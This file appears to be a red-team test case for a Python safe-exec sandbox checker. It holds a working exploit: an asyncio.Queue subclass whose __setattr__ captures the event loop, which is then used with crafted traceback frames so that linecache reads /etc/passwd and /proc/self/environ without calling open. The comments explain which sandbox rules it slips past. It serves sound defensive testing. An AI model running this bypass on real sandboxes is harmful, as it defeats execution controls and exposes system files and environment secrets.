# expect: reject dunder
# why: twenty-second red team's ok_01: asyncio.Queue subclass whose __setattr__ keeps the running event loop asyncio's _get_loop stores as self._loop; loop.call_exception_handler then formats a program-made source_traceback and linecache reads /etc/passwd
# line: 36
# goal: reads /etc/passwd (and /proc/self/environ: the process environment, i.e. os.environ) without open,
#   through linecache, after getting the RUNNING EVENT LOOP as a value.
# mechanism: (3) implicit call + (2) library object as a value. A subclass of asyncio.Queue defines
#   __setattr__ (dunder-define, allowed). asyncio's _LoopBoundMixin._get_loop() does `self._loop = loop`,
#   so the library calls the program's __setattr__ with the running loop as `value`; the hook keeps it
#   (box.append(value)). __init__ is overridden (the hook stores nothing, so Queue's own init would fail)
#   and empty() answers True so get() goes straight to _get_loop(). With the loop in hand,
#   loop.call_exception_handler(context) runs asyncio's default_exception_handler, which formats
#   context["source_traceback"] with traceback.format_list(): StackSummary.from_list() turns each
#   (filename, lineno, name, None) tuple into a FrameSummary whose .line property calls
#   linecache.getline(filename, lineno): any path is opened and its lines logged (lastResort -> stderr).
# rule slipped: none names what happens. The threat model's section 3 says "library code that trusts a
#   traceback takes only one the interpreter made" and closes formatException/exc_info/addError/
#   StackSummary/format_list/extract_tb by name, but asyncio's exception handler formats a program-made
#   list of frame tuples under the key "source_traceback" (a dict key, not an attribute) and
#   call_exception_handler/default_exception_handler are not refused. The loop itself is kept out by
#   refusing get_loop/_loop/get_running_loop by name, but a __setattr__ hook in a subclass of a library
#   class receives every private attribute the library sets on self (the hooks.c rules judge
#   __getattr__ and __new__, not __setattr__'s `value` parameter), so `_loop` arrives as a plain value.
# verify: safe-exec-check rc=0; python3 prints root:x:0:0:... from /etc/passwd.
import asyncio

box = []


class Q(asyncio.Queue):
    def __init__(self):
        pass

    def empty(self):
        return True

    def __setattr__(self, name, value):
        if name == "_loop":
            box.append(value)


async def main():
    try:
        await Q().get()
    except Exception as e:
        print("library raised", type(e).__name__)
    lp = box[0]
    frames = [("/etc/passwd", n, "x", None) for n in range(1, 4)]
    frames.append(("/proc/self/environ", 1, "env", None))
    lp.call_exception_handler({"message": "proof", "source_traceback": frames})


asyncio.run(main())
